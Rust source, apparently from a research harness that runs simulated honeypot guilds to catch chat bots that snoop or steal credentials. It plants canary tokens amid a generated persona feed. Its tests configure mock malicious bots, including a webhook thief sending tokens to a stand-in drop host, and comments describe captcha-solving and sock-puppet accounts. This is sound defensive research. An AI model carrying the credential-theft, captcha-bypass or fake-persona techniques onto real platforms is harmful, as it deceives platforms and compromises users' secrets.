        // they'd have in the full sorted list, so their RNG streams and
        // trace keys match a run with nothing reused.
        let mut live: Vec<(usize, GuildJob<S>)> = Vec::new();
        let mut reused: Vec<GuildSnapshot> = Vec::new();
        for (idx, job) in jobs.into_iter().enumerate() {
            match reuse.get(&job.bot_name) {
                Some(snap) => reused.push(snap.clone()),
                None => live.push((idx, job)),
            }
        }

        // Phase 2: populate every live guild with feed + tokens and drive
        // its backend. Each guild owns its RNG stream, token mint, and
        // backend, so any schedule produces the same per-guild transcript;
        // outcomes merge in the (sorted) job order.
        let workers = resolve_workers(self.config.workers);
        let guilds_span = span.child("guilds");
        let outcomes: Vec<(String, GuildOutcome)> = if workers <= 1 || live.len() <= 1 {
            live.into_iter()
                .map(|(idx, job)| {
                    let name = job.bot_name.clone();
                    (name, self.run_guild(idx, job, pool.as_ref(), &guilds_span))
                })
                .collect()
        } else {
            let live: Vec<JobSlot<S>> = live.into_iter().map(|j| Mutex::new(Some(j))).collect();
            let slots: Vec<Mutex<Option<(String, GuildOutcome)>>> =
                (0..live.len()).map(|_| Mutex::new(None)).collect();
            let next = AtomicUsize::new(0);
            let pool_ref: &dyn PersonaRoster = pool.as_ref();
            crossbeam::thread::scope(|s| {
                for _ in 0..workers.min(live.len()) {
                    let (live, slots, next) = (&live, &slots, &next);
                    let guilds_span = &guilds_span;
                    let this = &*self;
                    s.spawn(move |_| loop {
                        let i = next.fetch_add(1, Ordering::Relaxed);
                        if i >= live.len() {
                            break;
                        }
                        let (idx, job) = live[i].lock().take().expect("guild claimed once");
                        let name = job.bot_name.clone();
                        *slots[i].lock() =
                            Some((name, this.run_guild(idx, job, pool_ref, guilds_span)));
                    });
                }
            })
            .expect("campaign scope");
            slots
                .into_iter()
                .map(|s| s.into_inner().expect("every guild populated"))
                .collect()
        };
        drop(guilds_span);
        let mut live_stats: Vec<(String, usize, usize)> = Vec::new();
        for (name, outcome) in outcomes {
            report.messages_posted += outcome.messages_posted;
            report.tokens_planted += outcome.tokens_planted;
            live_stats.push((name, outcome.messages_posted, outcome.tokens_planted));
            for (token, bot_name) in outcome.registry_entries {
                registry.insert(token.id.clone(), (token, bot_name));
            }
        }

        report.captchas_solved = self.solver.solves;
        report.captcha_spend_dollars = self.solver.spend_dollars();
        report.manual_verifications = pool.manual_verifications();
        report.triggers = self.sink.triggers();
        // Network-tap scan for stolen webhook credentials: any
        // backend-originated request whose URL carries a planted token.
        if !self.webhook_canaries.is_empty() {
            let extra: Vec<Trigger> = net.with_trace(|trace| {
                trace
                    .entries()
                    .iter()
                    .filter(|e| e.requester.starts_with("bot-backend/"))
                    .flat_map(|e| {
                        self.webhook_canaries
                            .iter()
                            .filter(|(token, _)| e.url.contains(token.as_str()))
                            .map(|(_, token_id)| Trigger {
                                token_id: token_id.clone(),
                                requester: e.requester.clone(),
                                at: e.at,
                                via_mail: false,
                            })
                            .collect::<Vec<_>>()
                    })
                    .collect()
            });
            report.triggers.extend(extra);
        }
        // Trigger arrival order is a scheduling artifact under parallel
        // population; sort into canonical (token, requester) order so the
        // report is identical at any worker count. `at` survives for the
        // follow-up window, which uses the per-guild minimum only.
        report.triggers.sort_by(|a, b| {
            (&a.token_id, &a.requester, a.via_mail).cmp(&(&b.token_id, &b.requester, b.via_mail))
        });
        report.detections = self.attribute_from(&report.triggers, &registry, &guild_of_bot);

        // Distill every live guild into a snapshot (triggers and detections
        // so far are live-only: reused backends were never driven), then
        // merge the reused transcripts in and restore canonical order.
        let mut snapshots: Vec<GuildSnapshot> = live_stats
            .into_iter()
            .map(|(name, messages_posted, tokens_planted)| GuildSnapshot {
                triggers: report
                    .triggers
                    .iter()
                    .filter(|t| {
                        registry
                            .get(&t.token_id)
                            .is_some_and(|(_, bot)| *bot == name)
                    })
                    .map(|t| (t.token_id.clone(), t.requester.clone(), t.via_mail))
                    .collect(),
                detection: report
                    .detections
                    .iter()
                    .find(|d| d.bot_name == name)
                    .cloned(),
                bot_name: name,
                messages_posted,
                tokens_planted,
            })
            .collect();
        for snap in reused {
            report.messages_posted += snap.messages_posted;
            report.tokens_planted += snap.tokens_planted;
            report
                .triggers
                .extend(
                    snap.triggers
                        .iter()
                        .map(|(token_id, requester, via_mail)| Trigger {
                            token_id: token_id.clone(),
                            requester: requester.clone(),
                            at: started,
                            via_mail: *via_mail,
                        }),
                );
            if let Some(det) = &snap.detection {
                report.detections.push(det.clone());
            }
            snapshots.push(snap);
        }
        report.triggers.sort_by(|a, b| {
            (&a.token_id, &a.requester, a.via_mail).cmp(&(&b.token_id, &b.requester, b.via_mail))
        });
        report
            .detections
            .sort_by(|a, b| a.bot_name.cmp(&b.bot_name));
        snapshots.sort_by(|a, b| a.bot_name.cmp(&b.bot_name));

        report.backend_bytes_sent = net.with_trace(|t| t.bytes_sent_by("bot-backend/"));
        report.duration = clock.now().duration_since(started);

        // Deterministic totals (pinned equal at any worker count by the
        // parallel-vs-serial tests) go on the span; scheduling-sensitive
        // overhead stays in metrics.
        span.record("bots_tested", report.bots_tested as u64);
        span.record("tokens_planted", report.tokens_planted as u64);
        span.record("messages_posted", report.messages_posted as u64);
        span.record("triggers", report.triggers.len() as u64);
        span.record("detections", report.detections.len() as u64);
        obs.counter("honeypot.guilds_created")
            .add(report.guilds_created as u64);
        obs.counter("honeypot.bots_tested")
            .add(report.bots_tested as u64);
        obs.counter("honeypot.install_failures")
            .add(report.install_failures as u64);
        obs.counter("honeypot.tokens_planted")
            .add(report.tokens_planted as u64);
        obs.counter("honeypot.messages_posted")
            .add(report.messages_posted as u64);
        obs.counter("honeypot.captchas_solved")
            .add(report.captchas_solved);
        obs.counter("honeypot.triggers")
            .add(report.triggers.len() as u64);
        obs.counter("honeypot.detections")
            .add(report.detections.len() as u64);
        (report, snapshots)
    }

    fn set_up_guild(
        &mut self,
        but: &BotUnderTest<S>,
        pool: &mut dyn PersonaRoster,
        registry: &mut BTreeMap<String, (CanaryToken, String)>,
        report: &mut CampaignReport,
    ) -> SubstrateResult<RoomId> {
        let tag = Self::guild_tag(&but.name);
        // "we create new private guilds … We name each guild after the
        // corresponding chatbots for easy identification."
        let guild = self.substrate.create_room(self.researcher, &tag)?;
        report.guilds_created += 1;
        let code = self.substrate.room_invite(self.researcher, guild)?;
        pool.join_all(guild, Some(&code))?;
        // "To add a chatbot to the guild, we need to solve a Google
        // reCAPTCHA … we used the captcha-solving service 2Captcha."
        // Telegram's add-to-group flow has no such wall: the solver is
        // never consulted and the campaign's captcha spend stays zero.
        let captcha_solved =
            self.substrate.install_requires_captcha() && self.solver.solve("21 + 21").is_ok();
        self.substrate
            .install_bot(self.researcher, guild, &but.invite, captcha_solved)?;
        if self.config.plant_webhook_canaries {
            // Extension: a webhook whose secret doubles as a canary. Any
            // backend request carrying the token betrays credential theft.
            // Substrates without webhooks return `None` and plant nothing.
            if let Some(hook_token) =
                self.substrate
                    .plant_webhook(self.researcher, guild, "ci-updates")?
            {
                let token = self.mint.mint(TokenKind::WebhookToken, &tag);
                registry_insert_webhook(&mut self.webhook_canaries, &hook_token, &token.id);
                registry.insert(token.id.clone(), (token, but.name.clone()));
            }
        }
        Ok(guild)
    }

    /// Phase-2 unit of work: populate one guild and drive its backend to
    /// quiescence. `index` is the guild's position in bot-name order and
    /// selects its RNG stream.
    fn run_guild(
        &self,
        index: usize,
        job: GuildJob<S>,
        pool: &dyn PersonaRoster,
        parent: &Span,
    ) -> GuildOutcome {
        // Keyed by the bot-name-order index — the same stream selector the
        // RNG uses — so the trace tree is worker-count-independent.
        let span = parent.child_keyed("guild", index as u64);
        let mut rng = StdRng::seed_from_u64(netsim::splitmix(self.config.seed, index as u64));
        let mut mint = TokenMint::new(SINK_HOST, MAIL_HOST);
        let outcome = match self.populate_guild(job.guild, &job.bot_name, pool, &mut rng, &mut mint)
        {
            Ok(outcome) => outcome,
            // Population failures are campaign bugs, not measurements.
            Err(e) => panic!("failed to populate {}: {e}", job.bot_name),
        };
        if let Some(mut backend) = job.bot {
            self.substrate.drive_to_idle(&mut backend);
        }
        span.record("messages_posted", outcome.messages_posted as u64);
        span.record("tokens_planted", outcome.tokens_planted as u64);
        outcome
    }

    fn populate_guild(
        &self,
        guild: RoomId,
        bot_name: &str,
        pool: &dyn PersonaRoster,
        rng: &mut StdRng,
        mint: &mut TokenMint,
    ) -> SubstrateResult<GuildOutcome> {
        let tag = Self::guild_tag(bot_name);
        let channel = self.substrate.default_channel(guild)?;
        let clock = self.substrate.network().clock();
        let mut outcome = GuildOutcome {
            registry_entries: Vec::new(),
            messages_posted: 0,
            tokens_planted: 0,
        };

        let tokens = mint.mint_guild_set(&tag);
        let feed = generate_feed(rng, pool.len(), self.config.feed_messages);

        // Interleave: tokens dropped at ¼, ½, ¾ and end of the feed.
        let drop_points: Vec<usize> = (1..=tokens.len())
            .map(|i| i * feed.len().max(4) / (tokens.len() + 1))
            .collect();
        let mut token_iter = tokens.into_iter();
        for (i, line) in feed.iter().enumerate() {
            let author = pool.by_index(line.persona);
            self.substrate
                .send_message(author, channel, &line.text, vec![])?;
            outcome.messages_posted += 1;
            clock.sleep(SimDuration::from_secs(30)); // believable pacing
            if drop_points.contains(&i) {
                if let Some(token) = token_iter.next() {
                    self.plant_token(&token, channel, pool, i)?;
                    outcome.registry_entries.push((token, bot_name.to_string()));
                    outcome.tokens_planted += 1;
                }
            }
        }
        // Any tokens not yet dropped (tiny feeds): post them at the end.
        for token in token_iter {
            self.plant_token(&token, channel, pool, 0)?;
            outcome.registry_entries.push((token, bot_name.to_string()));
            outcome.tokens_planted += 1;
        }
        Ok(outcome)
    }

    fn plant_token(
        &self,
        token: &CanaryToken,
        channel: platform::ChannelId,
        pool: &dyn PersonaRoster,
        idx: usize,
    ) -> SubstrateResult<()> {
        let author = pool.by_index(idx + 1);
        match token.kind {
            TokenKind::Url => {
                self.substrate.send_message(
                    author,
                    channel,
                    &format!("shared the doc here {}", token.beacon_url(SINK_HOST)),
                    vec![],
                )?;
            }
            TokenKind::Email => {
                self.substrate.send_message(
                    author,
                    channel,
                    &format!("email me the files at {}", token.email_address(MAIL_HOST)),
                    vec![],
                )?;
            }
            TokenKind::WordDoc | TokenKind::Pdf => {
                let att = token
                    .as_attachment(SINK_HOST)
                    .expect("doc kinds have attachments");
                self.substrate.send_message(
                    author,
                    channel,
                    "notes from the meeting attached",
                    vec![att],
                )?;
            }
            TokenKind::WebhookToken => {
                // Planted during guild set-up, not posted as a message.
            }
        }
        Ok(())
    }

    /// Attribute triggers back to bots by guild tag; collect follow-up
    /// bot messages posted after the first trigger in each guild.
    fn attribute_from(
        &self,
        triggers: &[Trigger],
        registry: &BTreeMap<String, (CanaryToken, String)>,
        guild_of_bot: &BTreeMap<String, RoomId>,
    ) -> Vec<Detection> {
        let mut per_bot: BTreeMap<String, (Vec<TokenKind>, Vec<String>, netsim::SimInstant)> =
            BTreeMap::new();
        for trigger in triggers.iter().cloned() {
            let Some((token, bot_name)) = registry.get(&trigger.token_id) else {
                continue;
            };
            let entry = per_bot
                .entry(bot_name.clone())
                .or_insert_with(|| (Vec::new(), Vec::new(), trigger.at));
            if !entry.0.contains(&token.kind) {
                entry.0.push(token.kind);
            }
            if !entry.1.contains(&trigger.requester) {
                entry.1.push(trigger.requester.clone());
            }
            entry.2 = entry.2.min(trigger.at);
        }
        per_bot
            .into_iter()
            .map(|(bot_name, (mut kinds, mut requesters, first_at))| {
                kinds.sort();
                requesters.sort();
                let followup_messages = guild_of_bot
                    .get(&bot_name)
                    .and_then(|g| self.substrate.default_channel(*g).ok())
                    .and_then(|ch| self.substrate.read_history(self.researcher, ch).ok())
                    .map(|history| {
                        history
                            .iter()
                            .filter(|m| m.at >= first_at && m.author_is_bot)
                            .map(|m| m.content.clone())
                            .collect()
                    })
                    .unwrap_or_default();
                Detection {
                    bot_name,
                    token_kinds: kinds,
                    requesters,
                    followup_messages,
                }
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::substrate::DiscordSubstrate;
    use botsdk::{Behavior, BenignBehavior, ExfiltratorBehavior, SnooperBehavior};
    use crawler::solver::CaptchaSolverService;
    use discord_sim::oauth::InviteUrl;
    use discord_sim::{Permissions, Platform, UserId};
    use netsim::clock::VirtualClock;
    use netsim::Network;

    fn world() -> (Platform, Network, UserId) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(31, clock.clone());
        CaptchaSolverService::mount(&net);
        let platform = Platform::new(clock);
        let dev = platform.register_user("dev#1", "dev@x.y");
        (platform, net, dev)
    }

    fn discord(platform: &Platform, net: &Network) -> DiscordSubstrate {
        DiscordSubstrate::new(platform.clone(), net.clone())
    }

    fn make_bot(
        platform: &Platform,
        dev: UserId,
        name: &str,
        perms: Permissions,
        behavior: Box<dyn Behavior>,
    ) -> BotUnderTest<DiscordSubstrate> {
        let app = platform.register_bot_application(dev, name).unwrap();
        BotUnderTest {
            name: name.to_string(),
            client_id: app.client_id,
            bot_user: app.bot_user.0.raw(),
            invite: InviteUrl::bot(app.client_id, perms).to_url().to_string(),
            behavior,
        }
    }

    fn full_perms() -> Permissions {
        Permissions::SEND_MESSAGES
            | Permissions::VIEW_CHANNEL
            | Permissions::READ_MESSAGE_HISTORY
            | Permissions::ATTACH_FILES
    }

    #[test]
    fn benign_fleet_produces_zero_triggers() {
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let bots = vec![
            make_bot(
                &platform,
                dev,
                "CleanBot",
                full_perms(),
                Box::new(BenignBehavior::new("fun")),
            ),
            make_bot(
                &platform,
                dev,
                "NiceBot",
                full_perms(),
                Box::new(BenignBehavior::new("music")),
            ),
        ];
        let report = campaign.run(bots);
        assert_eq!(report.bots_tested, 2);
        assert_eq!(report.guilds_created, 2);
        assert_eq!(report.tokens_planted, 8);
        assert_eq!(report.messages_posted, 50);
        assert!(report.triggers.is_empty());
        assert!(report.detections.is_empty());
        assert_eq!(report.captchas_solved, 2, "one install captcha per bot");
        assert_eq!(
            report.backend_bytes_sent, 0,
            "benign backends send nothing out"
        );
    }

    #[test]
    fn snooper_is_caught_and_attributed() {
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let bots = vec![
            make_bot(
                &platform,
                dev,
                "CleanBot",
                full_perms(),
                Box::new(BenignBehavior::new("fun")),
            ),
            make_bot(
                &platform,
                dev,
                "Melonian",
                full_perms(),
                Box::new(SnooperBehavior::new(10)),
            ),
        ];
        let report = campaign.run(bots);
        assert_eq!(report.detections.len(), 1, "exactly one bot detected");
        let det = &report.detections[0];
        assert_eq!(det.bot_name, "Melonian");
        // The snooper opened the word doc, the pdf, and fetched the URL.
        assert!(det.token_kinds.contains(&TokenKind::Url));
        assert!(det.token_kinds.contains(&TokenKind::WordDoc));
        assert!(det.token_kinds.contains(&TokenKind::Pdf));
        // Requester attribution points at Melonian's backend.
        assert!(det.requesters.iter().all(|r| r.contains("melonian")));
        // The human aside was captured as a follow-up message.
        assert!(det.followup_messages.iter().any(|m| m == "wtf is this bro"));
    }

    #[test]
    fn exfiltrator_trips_email_token_too() {
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let bots = vec![make_bot(
            &platform,
            dev,
            "Harvester",
            full_perms(),
            Box::new(ExfiltratorBehavior::new(None).spamming()),
        )];
        let report = campaign.run(bots);
        assert_eq!(report.detections.len(), 1);
        let det = &report.detections[0];
        assert_eq!(
            det.token_kinds,
            vec![
                TokenKind::Email,
                TokenKind::Url,
                TokenKind::WordDoc,
                TokenKind::Pdf
            ]
        );
        assert!(
            report.backend_bytes_sent > 0,
            "the harvester's traffic is measurable"
        );
    }

    #[test]
    fn guild_isolation_no_cross_guild_attribution() {
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let bots = vec![
            make_bot(
                &platform,
                dev,
                "Spy",
                full_perms(),
                Box::new(SnooperBehavior::new(5)),
            ),
            make_bot(
                &platform,
                dev,
                "Saint",
                full_perms(),
                Box::new(BenignBehavior::new("fun")),
            ),
        ];
        let report = campaign.run(bots);
        assert_eq!(report.detections.len(), 1);
        assert_eq!(report.detections[0].bot_name, "Spy");
        // Every trigger's token carries the Spy guild tag.
        for t in &report.triggers {
            assert!(t.token_id.contains("guild-spy"), "{}", t.token_id);
        }
    }

    #[test]
    fn webhook_thief_caught_via_network_tap() {
        use botsdk::WebhookThiefBehavior;
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let bots = vec![
            make_bot(
                &platform,
                dev,
                "CleanBot",
                full_perms(),
                Box::new(BenignBehavior::new("fun")),
            ),
            make_bot(
                &platform,
                dev,
                "HookSnatcher",
                full_perms() | Permissions::MANAGE_WEBHOOKS,
                Box::new(WebhookThiefBehavior::new("drop.zone.sim")),
            ),
        ];
        let report = campaign.run(bots);
        assert_eq!(report.detections.len(), 1);
        let det = &report.detections[0];
        assert_eq!(det.bot_name, "HookSnatcher");
        assert_eq!(det.token_kinds, vec![TokenKind::WebhookToken]);
        assert!(det.requesters.iter().all(|r| r.contains("hooksnatcher")));
    }

    #[test]
    fn webhook_canaries_can_be_disabled() {
        use botsdk::WebhookThiefBehavior;
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(
            discord(&platform, &net),
            CampaignConfig {
                plant_webhook_canaries: false,
                ..CampaignConfig::default()
            },
        );
        let bots = vec![make_bot(
            &platform,
            dev,
            "HookSnatcher",
            full_perms() | Permissions::MANAGE_WEBHOOKS,
            Box::new(WebhookThiefBehavior::new("drop.zone.sim")),
        )];
        let report = campaign.run(bots);
        // No canary webhook exists → nothing to steal → no detection; the
        // paper's four-token design alone misses this behaviour class.
        assert!(report.detections.is_empty());
    }

    #[test]
    fn parallel_campaign_matches_serial() {
        use botsdk::WebhookThiefBehavior;
        let run = |workers: usize| {
            let (platform, net, dev) = world();
            let mut campaign = Campaign::new(
                discord(&platform, &net),
                CampaignConfig {
                    workers,
                    ..CampaignConfig::default()
                },
            );
            let bots = vec![
                make_bot(
                    &platform,
                    dev,
                    "CleanBot",
                    full_perms(),
                    Box::new(BenignBehavior::new("fun")),
                ),
                make_bot(
                    &platform,
                    dev,
                    "Melonian",
                    full_perms(),
                    Box::new(SnooperBehavior::new(10)),
                ),
                make_bot(
                    &platform,
                    dev,
                    "Harvester",
                    full_perms(),
                    Box::new(ExfiltratorBehavior::new(None).spamming()),
                ),
                make_bot(
                    &platform,
                    dev,
                    "HookSnatcher",
                    full_perms() | Permissions::MANAGE_WEBHOOKS,
                    Box::new(WebhookThiefBehavior::new("drop.zone.sim")),
                ),
            ];
            let report = campaign.run(bots);
            (
                report.detections.clone(),
                report
                    .triggers
                    .iter()
                    .map(|t| (t.token_id.clone(), t.requester.clone(), t.via_mail))
                    .collect::<Vec<_>>(),
                report.messages_posted,
                report.tokens_planted,
                report.bots_tested,
            )
        };
        let serial = run(1);
        assert_eq!(serial.0.len(), 3, "three of four bots are malicious");
        for workers in [2, 4] {
            assert_eq!(run(workers), serial, "workers={workers}");
        }
    }

    #[test]
    fn traced_campaign_canonical_trace_is_worker_invariant() {
        let trace = |workers: usize| {
            let (platform, net, dev) = world();
            let mut campaign = Campaign::new(
                discord(&platform, &net),
                CampaignConfig {
                    workers,
                    ..CampaignConfig::default()
                },
            );
            let bots = vec![
                make_bot(
                    &platform,
                    dev,
                    "CleanBot",
                    full_perms(),
                    Box::new(BenignBehavior::new("fun")),
                ),
                make_bot(
                    &platform,
                    dev,
                    "Melonian",
                    full_perms(),
                    Box::new(SnooperBehavior::new(10)),
                ),
                make_bot(
                    &platform,
                    dev,
                    "Harvester",
                    full_perms(),
                    Box::new(ExfiltratorBehavior::new(None).spamming()),
                ),
            ];
            let recorder = std::sync::Arc::new(obs::JsonRecorder::new());
            let obs_handle =
                Obs::with_recorder(recorder.clone(), std::sync::Arc::new(net.clock().clone()));
            {
                let root = obs_handle.span("audit");
                campaign.run_traced(bots, &obs_handle, &root);
            }
            recorder.canonical_trace()
        };
        let serial = trace(1);
        assert!(serial.contains("\"name\":\"honeypot\""));
        assert!(serial.contains("\"name\":\"guild\""));
        for workers in [2, 4] {
            assert_eq!(trace(workers), serial, "workers={workers}");
        }
    }

    #[test]
    fn campaign_is_deterministic() {
        let run = || {
            let (platform, net, dev) = world();
            let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
            let bots = vec![make_bot(
                &platform,
                dev,
                "Melonian",
                full_perms(),
                Box::new(SnooperBehavior::new(8)),
            )];
            let report = campaign.run(bots);
            (
                report
                    .detections
                    .iter()
                    .map(|d| (d.bot_name.clone(), d.token_kinds.clone()))
                    .collect::<Vec<_>>(),
                report.messages_posted,
                report.tokens_planted,
            )
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn reused_snapshots_reproduce_the_full_report() {
        use botsdk::WebhookThiefBehavior;
        let fleet = |platform: &Platform, dev: UserId| {
            vec![
                make_bot(
                    platform,
                    dev,
                    "CleanBot",
                    full_perms(),
                    Box::new(BenignBehavior::new("fun")),
                ),
                make_bot(
                    platform,
                    dev,
                    "Melonian",
                    full_perms(),
                    Box::new(SnooperBehavior::new(10)),
                ),
                make_bot(
                    platform,
                    dev,
                    "HookSnatcher",
                    full_perms() | Permissions::MANAGE_WEBHOOKS,
                    Box::new(WebhookThiefBehavior::new("drop.zone.sim")),
                ),
            ]
        };
        let canonical = |r: &CampaignReport| {
            (
                r.detections.clone(),
                r.triggers
                    .iter()
                    .map(|t| (t.token_id.clone(), t.requester.clone(), t.via_mail))
                    .collect::<Vec<_>>(),
                r.messages_posted,
                r.tokens_planted,
                r.bots_tested,
                r.guilds_created,
            )
        };

        // Full run: every guild populated, snapshots captured.
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let (full, snapshots) = campaign.run_traced_with_reuse(
            fleet(&platform, dev),
            &Obs::disabled(),
            &Span::disabled(),
            &BTreeMap::new(),
        );
        assert_eq!(snapshots.len(), 3);
        assert!(snapshots.windows(2).all(|w| w[0].bot_name < w[1].bot_name));

        // Reuse run on a fresh world: two of three guilds come from
        // snapshots, only Melonian is re-driven. The merged report must be
        // canonically identical and the snapshots must round-trip.
        let reuse: BTreeMap<String, GuildSnapshot> = snapshots
            .iter()
            .filter(|s| s.bot_name != "Melonian")
            .map(|s| (s.bot_name.clone(), s.clone()))
            .collect();
        let (platform, net, dev) = world();
        let mut campaign = Campaign::new(discord(&platform, &net), CampaignConfig::default());
        let (merged, merged_snapshots) = campaign.run_traced_with_reuse(
            fleet(&platform, dev),
            &Obs::disabled(),
            &Span::disabled(),
            &reuse,
        );
        assert_eq!(canonical(&merged), canonical(&full));
        let shape = |s: &[GuildSnapshot]| {
            s.iter()
                .map(|g| {
                    (
                        g.bot_name.clone(),
                        g.messages_posted,
                        g.tokens_planted,
                        g.triggers.clone(),
                        g.detection.clone(),
                    )
                })
                .collect::<Vec<_>>()
        };
        assert_eq!(shape(&merged_snapshots), shape(&snapshots));
    }

    #[test]
    fn telegram_campaign_runs_the_same_orchestration() {
        use telegram_sim::{deep_link, TelegramSubstrate, TgBenignBehavior, TgPlatform};
        use telegram_sim::{TgBehavior, TgSnooperBehavior};

        let clock = VirtualClock::new();
        let net = Network::with_clock(37, clock.clone());
        let tg = TgPlatform::new(clock);
        let substrate = TelegramSubstrate::new(tg.clone(), net);

        let make = |name: &str,
                    username: &str,
                    privacy: bool,
                    behavior: Box<dyn TgBehavior>|
         -> BotUnderTest<TelegramSubstrate> {
            let bot = tg
                .register_bot(username, platform::TgRights::NONE, privacy)
                .unwrap();
            BotUnderTest {
                name: name.to_string(),
                client_id: bot,
                bot_user: bot,
                invite: deep_link(username, platform::TgRights::NONE),
                behavior,
            }
        };
        let bots = vec![
            make(
                "CleanBot",
                "cleanbot",
                true,
                Box::new(TgBenignBehavior::new("fun")),
            ),
            // Privacy mode off: the snooper's backend receives the whole
            // feed — including the planted canaries — without any command.
            make(
                "Melonian",
                "melonian",
                false,
                Box::new(TgSnooperBehavior::new(10)),
            ),
        ];
        let mut campaign = Campaign::new(substrate, CampaignConfig::default());
        let report = campaign.run(bots);
        assert_eq!(report.bots_tested, 2);
        assert_eq!(report.guilds_created, 2);
        assert_eq!(report.tokens_planted, 8, "four paper tokens per room");
        assert_eq!(report.messages_posted, 50);
        assert_eq!(
            report.captchas_solved, 0,
            "no captcha wall on the Telegram install flow"
        );
        assert_eq!(
            report.manual_verifications, 0,
            "no mobile-verification friction for Telegram personas"
        );
        assert_eq!(report.detections.len(), 1);
        let det = &report.detections[0];
        assert_eq!(det.bot_name, "Melonian");
        assert!(det.token_kinds.contains(&TokenKind::Url));
        assert!(det.requesters.iter().all(|r| r.contains("melonian")));
        assert!(det.followup_messages.iter().any(|m| m == "wtf is this bro"));
    }

    #[test]
    fn telegram_privacy_mode_shields_the_feed() {
        use telegram_sim::{deep_link, TelegramSubstrate, TgPlatform, TgSnooperBehavior};

        let clock = VirtualClock::new();
        let net = Network::with_clock(41, clock.clone());
        let tg = TgPlatform::new(clock);
        let substrate = TelegramSubstrate::new(tg.clone(), net);
        // Same snooper backend, but privacy mode ON and no admin rights:
        // the enforced delivery policy never hands it the feed, so the
        // snoop is structurally impossible — the platform contrast the
        // paper draws in §6.
        let bot = tg
            .register_bot("quietspy", platform::TgRights::NONE, true)
            .unwrap();
        let bots = vec![BotUnderTest::<TelegramSubstrate> {
            name: "QuietSpy".to_string(),
            client_id: bot,
            bot_user: bot,
            invite: deep_link("quietspy", platform::TgRights::NONE),
            behavior: Box::new(TgSnooperBehavior::new(10)),
        }];
        let mut campaign = Campaign::new(substrate, CampaignConfig::default());
        let report = campaign.run(bots);
        assert_eq!(report.bots_tested, 1);
        assert!(
            report.detections.is_empty(),
            "privacy mode withholds the canaries from the backend"
        );
    }

    #[test]
    fn guild_tag_sanitizes_names() {
        type C = Campaign<DiscordSubstrate>;
        assert_eq!(C::guild_tag("Melonian"), "guild-melonian");
        assert_eq!(C::guild_tag("Fun Bot 3000!"), "guild-fun-bot-3000-");
    }
}
