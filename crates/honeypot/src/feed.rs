//! The realistic conversation feed.
//!
//! "For the honeypot environment to appear active and in use, we provide a
//! feed of frequent exchange of messages from multiple (automated) users.
//! … our implementation leverages publicly available messages from social
//! networks (OSN) like Reddit. Our rationale is that the style of the
//! communication used in an instant messaging environment is shorter and
//! less formal than email" (§3).
//!
//! We cannot ship Reddit data, so the generator assembles short, informal
//! chat lines from a seed corpus of templates and slot fillers — same
//! register, same purpose: make the guild look alive to a snooping
//! developer.

use rand::Rng;

/// Slot fillers harvested from the sort of chatter the paper describes.
const TOPICS: &[&str] = &[
    "the new season",
    "that boss fight",
    "the patch notes",
    "the meetup on friday",
    "the project deadline",
    "the playlist",
    "yesterday's match",
    "the group buy",
    "the new keyboard",
    "that meme",
    "the stream last night",
    "the assignment",
];

const OPENERS: &[&str] = &[
    "lol did you see {t}",
    "ok but {t} was wild",
    "anyone else think {t} is overrated",
    "can't stop thinking about {t}",
    "hot take: {t} is actually fine",
    "yo {t} tho",
    "who's ready for {t}",
    "real talk, {t} saved my week",
    "ngl {t} kinda slaps",
];

const REPLIES: &[&str] = &[
    "fr fr",
    "lmaooo",
    "no way",
    "this ^",
    "brooo",
    "so true",
    "idk about that",
    "wait what",
    "hard agree",
    "nah you're wrong lol",
    "ok that's fair",
    "someone clip that",
    "brb gotta see this",
    "same tbh",
    "💀",
];

const FOLLOWUPS: &[&str] = &[
    "also we still on for tonight?",
    "did anyone save the link from before?",
    "who has the notes from last time",
    "ping me when you're online",
    "gonna grab food, back in 10",
    "my wifi is dying again",
    "ok actually gotta go",
];

/// A tiny order-1 Markov chain over words, trained on the seed corpus.
///
/// The template generator above covers the *shape* of chat; the Markov
/// layer adds novel-but-plausible run-on lines so long feeds do not repeat
/// verbatim. Both stay in the short, informal OSN register.
pub struct MarkovChat {
    transitions: std::collections::BTreeMap<String, Vec<String>>,
    starts: Vec<String>,
}

impl MarkovChat {
    /// Train on the built-in seed corpus plus any extra lines.
    pub fn seeded(extra: &[&str]) -> MarkovChat {
        let mut corpus: Vec<String> = Vec::new();
        for opener in OPENERS {
            for topic in TOPICS.iter().take(4) {
                corpus.push(opener.replace("{t}", topic));
            }
        }
        corpus.extend(FOLLOWUPS.iter().map(|s| s.to_string()));
        corpus.extend(extra.iter().map(|s| s.to_string()));

        let mut transitions: std::collections::BTreeMap<String, Vec<String>> = Default::default();
        let mut starts = Vec::new();
        for line in &corpus {
            let words: Vec<&str> = line.split_whitespace().collect();
            if words.is_empty() {
                continue;
            }
            starts.push(words[0].to_string());
            for pair in words.windows(2) {
                transitions
                    .entry(pair[0].to_string())
                    .or_default()
                    .push(pair[1].to_string());
            }
        }
        MarkovChat {
            transitions,
            starts,
        }
    }

    /// Generate one line of at most `max_words` words.
    pub fn line<R: Rng + ?Sized>(&self, rng: &mut R, max_words: usize) -> String {
        if self.starts.is_empty() {
            return "hm".to_string();
        }
        let mut word = self.starts[rng.gen_range(0..self.starts.len())].clone();
        let mut out = vec![word.clone()];
        for _ in 1..max_words.max(1) {
            let Some(nexts) = self.transitions.get(&word) else {
                break;
            };
            word = nexts[rng.gen_range(0..nexts.len())].clone();
            out.push(word.clone());
        }
        out.join(" ")
    }
}

/// One generated feed line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FeedLine {
    /// Index of the persona (0..n_personas) who should post it.
    pub persona: usize,
    /// The message text.
    pub text: String,
}

/// Generate `count` alternating messages for `personas` participants.
///
/// "our system ensures that the virtual accounts post alternating messages
/// so that interactions resemble legitimate conversations between actual
/// users" (§4.2): consecutive lines never come from the same persona.
